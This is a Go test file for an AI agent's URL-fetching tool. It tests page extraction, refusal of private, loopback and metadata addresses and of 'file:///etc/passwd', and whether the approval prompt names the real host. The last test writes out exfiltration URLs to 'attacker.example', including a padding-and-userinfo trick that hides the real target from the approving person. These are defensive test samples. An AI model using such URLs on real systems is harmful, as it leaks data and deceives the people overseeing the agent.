package tools

import (
	"context"
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/membot/membot/agent"
	"github.com/membot/membot/memory"
)

const testPage = `<!doctype html><html><head><title>The  Test Page</title>
<style>body { color: red }</style><script>var secret = "do not show";</script></head>
<body><nav>Home</nav><h1>Hello, reader</h1><p>First paragraph
 with   spaces.</p><ul><li>one</li><li>two</li></ul><noscript>enable js</noscript>
<table><tr><td>a</td><td>b</td></tr></table></body></html>`

func fetchTool(allowPrivate bool) *agent.Registry {
	return agent.NewRegistry(Builtin(Env{FetchAllowPrivate: allowPrivate})...)
}

func callFetch(r *agent.Registry, url string) (string, error) {
	return r.Call(context.Background(), &agent.TurnInfo{}, memory.ToolCall{Name: "fetch_url", Arguments: `{"url":"` + url + `"}`})
}

func TestFetchURLReadsALocalPageOnlyWhenPrivateAddressesAreAllowed(t *testing.T) {
	t.Parallel()
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		switch r.URL.Path {
		case "/page":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			w.Write([]byte(testPage))
		case "/cp1251":
			w.Header().Set("Content-Type", "text/plain; charset=windows-1251")
			w.Write([]byte{0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2}) // "Привет"
		case "/image":
			w.Header().Set("Content-Type", "image/png")
			w.Write([]byte("\x89PNG"))
		case "/big":
			w.Header().Set("Content-Type", "text/plain")
			w.Write([]byte(strings.Repeat("x", fetchMaxBytes+100)))
		case "/redirect":
			http.Redirect(w, r, "/page", http.StatusFound)
		default:
			http.NotFound(w, r)
		}
	}))
	defer srv.Close()

	allowed := fetchTool(true)
	got, err := callFetch(allowed, srv.URL+"/redirect")
	if err != nil {
		t.Fatal(err)
	}
	want := "URL: " + srv.URL + "/page\nTitle: The Test Page\n\nHome\nHello, reader\nFirst paragraph with spaces.\n- one\n- two\na b"
	if got != want {
		t.Fatalf("fetched:\n%s\nwant:\n%s", got, want)
	}
	if got, err := callFetch(allowed, srv.URL+"/cp1251"); err != nil || !strings.HasSuffix(got, "Привет") {
		t.Fatalf("windows-1251 page = %q, %v", got, err)
	}
	if got, err := callFetch(allowed, srv.URL+"/big"); err != nil || !strings.Contains(got, "only the first") {
		t.Fatalf("big page: %v, %d bytes", err, len(got))
	}
	for path, wantErr := range map[string]string{"/image": "image/png", "/missing": "404"} {
		if _, err := callFetch(allowed, srv.URL+path); err == nil || !strings.Contains(err.Error(), wantErr) {
			t.Errorf("%s: err = %v, want %q", path, err, wantErr)
		}
	}

	// Without the setting, loopback is refused at connect time, whatever
	// the name: the server is never reached.
	before := hits.Load()
	refused := fetchTool(false)
	localhost := strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
	for _, u := range []string{srv.URL + "/page", localhost + "/page"} {
		if _, err := callFetch(refused, u); err == nil || !strings.Contains(err.Error(), "not a public") {
			t.Errorf("%s: err = %v, want a refusal", u, err)
		}
	}
	if hits.Load() != before {
		t.Fatal("a refused fetch reached the server")
	}
	for _, u := range []string{"file:///etc/passwd", "ftp://example.com/", "gopher://x", "http://"} {
		if _, err := callFetch(refused, u); err == nil {
			t.Errorf("%s was fetched", u)
		}
	}
}

func TestIsPublic(t *testing.T) {
	t.Parallel()
	for addr, want := range map[string]bool{
		"93.184.216.34": true, "2606:2800:220:1::1": true, "8.8.8.8": true,
		"127.0.0.1": false, "10.1.2.3": false, "172.16.0.1": false, "192.168.1.1": false, "169.254.169.254": false,
		"0.0.0.0": false, "100.64.0.1": false, "255.255.255.255": false, "224.0.0.1": false,
		"::1": false, "fe80::1": false, "fc00::1": false, "::ffff:127.0.0.1": false, "64:ff9b::7f00:1": false, "::": false,
		"192.0.2.10": false, "198.51.100.7": false, "203.0.113.99": false, "2001:db8::1": false,
	} {
		if got := isPublic(netip.MustParseAddr(addr)); got != want {
			t.Errorf("isPublic(%s) = %v", addr, got)
		}
	}
	if err := refuseNonPublic("tcp", "[::1]:80", nil); !errors.Is(err, errNotPublic) {
		t.Errorf("refuseNonPublic(::1) = %v", err)
	}
	// This machine's own addresses, public ones too, are refused.
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		p, err := netip.ParsePrefix(a.String())
		if err != nil {
			continue
		}
		if err := refuseNonPublic("tcp", net.JoinHostPort(p.Addr().String(), "80"), nil); !errors.Is(err, errNotPublic) {
			t.Errorf("refuseNonPublic(own address %s) = %v", p.Addr(), err)
		}
	}
}

// What a person approving fetch_url is shown comes from the parsed URL and
// is never cut where the target is: the attacks of the review get either a
// refusal before anyone is asked, or a prompt that names the real host.
func TestTheFetchPromptShowsTheRealTarget(t *testing.T) {
	t.Parallel()
	r := agent.NewRegistry(Builtin(Env{})...)
	padding := strings.Repeat("x", 1500)

	// A long extra key sorting first pushed url past the old 1,500-character cut.
	if _, err := r.Describe("fetch_url", `{"`+padding+`":"1","url":"https://attacker.example/exfil"}`); err == nil {
		t.Error("an extra key was accepted")
	}
	// The harmless host is the user name; the real one sits past the cut.
	userinfo := `{"url":"http://en.wikipedia.org:443&title=` + padding + `@attacker.example:8080/exfil?d=secret"}`
	if _, err := r.Describe("fetch_url", userinfo); err == nil || !strings.Contains(err.Error(), "user name") {
		t.Errorf("a URL with userinfo: %v", err)
	}
	if _, err := r.Describe("fetch_url", `{"url":"https://a.example/?q=`+strings.Repeat("y", 3000)+`"}`); err == nil {
		t.Error("an over-long URL was accepted")
	}
	got, err := r.Describe("fetch_url", `{"url":"https://пример.испытание:8443/путь?q=1"}`)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"host: пример.испытание (xn--e1afmkfd.xn--80akhbyknj4f)", "port: 8443", "query: q=1"} {
		if !strings.Contains(got, want) {
			t.Errorf("prompt %q lacks %q", got, want)
		}
	}
	// Tools without a Describe are shown by their arguments (agent.Args), cut where long.
	if got, err := r.Describe("set_reminder", `{"text":"tea","in":"5m"}`); err != nil || got != "" {
		t.Errorf("set_reminder described as %q, %v", got, err)
	}
}
